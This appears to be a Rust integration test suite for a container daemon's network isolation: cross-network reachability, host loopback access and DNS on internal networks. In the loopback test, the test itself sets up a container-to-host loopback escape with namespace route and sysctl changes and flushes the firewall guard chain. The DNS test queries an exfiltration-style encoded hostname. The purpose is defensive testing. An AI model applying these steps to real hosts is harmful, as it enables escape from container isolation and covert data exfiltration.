//! Containers against the network boundaries: a container cannot reach a
//! container on another network, nor a service listening on the host's
//! 127.0.0.1 (even with its own routes pointed there, as CAP_NET_ADMIN in
//! its namespace allows), and a container on an `--internal` network
//! resolves its network's names but nothing outside it through the
//! network's DNS. Traffic goes only to the test's containers and to
//! listeners the test opens on 127.0.0.1; every probe has a timeout.

use std::net::TcpListener;
use std::process::Command;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::berthd::Berthd;
use crate::{assert_serving, daemon, support};

fn with_image() -> Berthd {
    let d = daemon("");
    d.ok(&["image", "import", &support::images().join("single").display().to_string(), "--tag", "busybox:test"]);
    d
}

fn ip_of(d: &Berthd, name: &str) -> String {
    let v = d.json(&["inspect", name]);
    v["network"]["networks"][0]["ip"].as_str().unwrap_or_default().to_string()
}

fn wait_for(what: &str, mut f: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(15);
    while Instant::now() < deadline {
        if f() {
            return;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    panic!("timed out waiting for {what}");
}

/// Output of a bounded TCP probe from inside `container`: what `nc` got
/// back, followed by `rc=N`.
fn probe(d: &Berthd, container: &str, addr: &str, port: u16) -> String {
    let script = format!("printf 'GET / HTTP/1.0\\r\\n\\r\\n' | timeout 4 nc -w 2 {addr} {port}; echo rc=$?");
    let out = d.run(&["exec", container, "sh", "-c", &script]);
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A web server on :8080 answering `text`.
fn web(d: &Berthd, name: &str, network: &str, text: &str) {
    let script = format!("mkdir -p /w && echo {text} > /w/index.html && exec httpd -f -p 8080 -h /w");
    d.ok(&["run", "-d", "--name", name, "--network", network, "busybox:test", "sh", "-c", &script]);
}

fn sleeper(d: &Berthd, name: &str, network: &str) {
    d.ok(&["run", "-d", "--name", name, "--network", network, "busybox:test", "sleep", "3600"]);
}

#[test]
fn containers_on_different_networks_cannot_reach_each_other() {
    let mut d = with_image();
    d.ok(&["network", "create", "front"]);
    d.ok(&["network", "create", "back"]);
    web(&d, "db", "back", "from-db");
    sleeper(&d, "neighbour", "back");
    sleeper(&d, "intruder", "front");
    let db = ip_of(&d, "db");
    // The server is up: the host and a container on its own network reach it.
    wait_for("db's web server from its own network", || probe(&d, "neighbour", &db, 8080).contains("from-db"));
    let out = probe(&d, "intruder", &db, 8080);
    assert!(!out.contains("from-db") && !out.contains("rc=0"), "another network reached db: {out}");
    // Nor the other way round.
    web(&d, "app", "front", "from-app");
    let app = ip_of(&d, "app");
    wait_for("app's web server", || probe(&d, "intruder", &app, 8080).contains("from-app"));
    let out = probe(&d, "neighbour", &app, 8080);
    assert!(!out.contains("from-app") && !out.contains("rc=0"), "another network reached app: {out}");
    d.ok(&["rm", "-f", "db", "neighbour", "intruder", "app"]);
    assert_serving(&mut d);
}

/// The daemon's table: named after its prefix.
fn guard_rules(d: &Berthd) -> usize {
    let out = Command::new("nft").args(["list", "chain", "ip", &d.prefix, "filter-prerouting"]).output().unwrap();
    String::from_utf8_lossy(&out.stdout).matches(" drop").count()
}

/// Tables other than the daemon's that drop 127.0.0.0/8 (other Berth
/// daemons on the host, e.g. tests running beside this one).
fn other_loopback_guards(d: &Berthd) -> Vec<String> {
    let out = Command::new("nft").args(["list", "ruleset"]).output().unwrap();
    let mine = format!("ip {} {{", d.prefix);
    String::from_utf8_lossy(&out.stdout)
        .split("\ntable ")
        .map(|t| t.trim_start_matches("table "))
        .filter(|t| !t.starts_with(&mine) && t.contains("ip daddr 127.0.0.0/8 drop"))
        .map(|t| t.lines().next().unwrap_or_default().trim_end_matches(" {").to_string())
        .collect()
}

/// A TCP listener on the host's 127.0.0.1 that closes every connection at
/// once (so a probe that gets through ends at once too) and counts them.
struct LoopbackListener {
    port: u16,
    count: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl LoopbackListener {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let (count, stop) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicBool::new(false)));
        let (c, s) = (Arc::clone(&count), Arc::clone(&stop));
        let thread = std::thread::spawn(move || {
            while !s.load(Ordering::SeqCst) {
                match listener.accept() {
                    Ok(_) => {
                        c.fetch_add(1, Ordering::SeqCst);
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
                }
            }
        });
        Self { port, count, stop, thread: Some(thread) }
    }

    /// Connections accepted so far.
    fn accepted(&self) -> usize {
        // Let a connection the kernel just completed be accepted.
        std::thread::sleep(Duration::from_millis(50));
        self.count.load(Ordering::SeqCst)
    }
}

impl Drop for LoopbackListener {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

#[test]
fn a_container_cannot_reach_a_listener_on_the_hosts_loopback() {
    let mut d = with_image();
    let listener = LoopbackListener::start();
    let port = listener.port;
    d.ok(&["network", "create", "lab"]);
    sleeper(&d, "attacker", "lab");
    let gateway = d.json(&["network", "inspect", "lab"])["gateway"].as_str().unwrap().to_string();
    let id = d.json(&["inspect", "attacker"])["id"].as_str().unwrap().to_string();

    // A plain attempt reaches only the container's own loopback.
    let out = probe(&d, "attacker", "127.0.0.1", port);
    assert_eq!(listener.accepted(), 0, "the container's 127.0.0.1 is the host's: {out}");

    // What a container with CAP_NET_ADMIN in its own namespace can do:
    // send 127.0.0.0/8 to its gateway and take answers from it. Done here
    // from outside, in the container's network namespace.
    let netns = format!("--net=/run/netns/{}-{}", d.prefix, &id[..12]);
    for step in [
        vec!["ip", "addr", "flush", "dev", "lo"],
        vec!["ip", "route", "add", "127.0.0.0/8", "via", &gateway],
        vec!["sysctl", "-qw", "net.ipv4.conf.eth0.route_localnet=1"],
    ] {
        let out = Command::new("nsenter").arg(&netns).arg("--").args(&step).output().unwrap();
        assert!(out.status.success(), "{step:?}: {}", String::from_utf8_lossy(&out.stderr));
    }
    let out = probe(&d, "attacker", "127.0.0.1", port);
    assert_eq!(listener.accepted(), 0, "a container reached the host's 127.0.0.1:{port}: {out}");
    assert!(out.contains("rc=") && !out.contains("rc=0"), "{out}");

    // Control: with the daemon's loopback guard flushed, the same probe
    // gets through, so the attack above is real. Only when no other
    // table guards the host (another Berth daemon's would drop the probe
    // too). The daemon repairs its table within seconds; a probe that
    // raced the repair is tried again.
    let mut controlled = false;
    for _ in 0..5 {
        wait_for("the daemon to (re)apply its loopback guard", || guard_rules(&d) > 0);
        let before = listener.accepted();
        let flush = Command::new("nft").args(["flush", "chain", "ip", &d.prefix, "filter-prerouting"]).status();
        assert!(flush.unwrap().success());
        let out = probe(&d, "attacker", "127.0.0.1", port);
        let after = listener.accepted();
        let others = other_loopback_guards(&d);
        if !others.is_empty() {
            eprintln!(
                "control skipped: tables {others:?} also drop 127.0.0.0/8 (tests/isolation.rs proves the attack)"
            );
            break;
        }
        if guard_rules(&d) == 0 {
            assert!(after > before, "control: the probe did not get through without the guard either: {out}");
            controlled = true;
            break;
        }
    }
    assert!(controlled || !other_loopback_guards(&d).is_empty(), "the daemon repaired its table before every probe");
    // Repaired after the flush, and the attack fails again.
    wait_for("the daemon to repair its table", || guard_rules(&d) > 0);
    let before = listener.accepted();
    let out = probe(&d, "attacker", "127.0.0.1", port);
    assert_eq!(listener.accepted(), before, "after the repair a container reached the host's loopback: {out}");

    d.ok(&["rm", "-f", "attacker"]);
    assert_serving(&mut d);
}

#[test]
fn an_internal_networks_dns_resolves_only_its_own_names() {
    let mut d = with_image();
    d.ok(&["network", "create", "vault", "--internal"]);
    sleeper(&d, "keeper", "vault");
    let keeper = ip_of(&d, "keeper");
    let nslookup = |name: &str| {
        let script = format!("timeout 10 nslookup {name}");
        let out = d.run(&["run", "--rm", "--network", "vault", "busybox:test", "sh", "-c", &script]);
        let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        (out.status.success(), text)
    };
    let (ok, out) = nslookup("keeper");
    assert!(ok && out.contains(&keeper), "its own names resolve: {out}");
    // Not forwarded: refused by the network's server at once (an answer
    // would have had to come from the host's resolvers).
    for name in ["example.com", "c2VjcmV0.exfil.example.org"] {
        let (ok, out) = nslookup(name);
        assert!(!ok && out.contains("REFUSED"), "{name} on an internal network: {out}");
    }
    d.ok(&["rm", "-f", "keeper"]);
    assert_serving(&mut d);
}
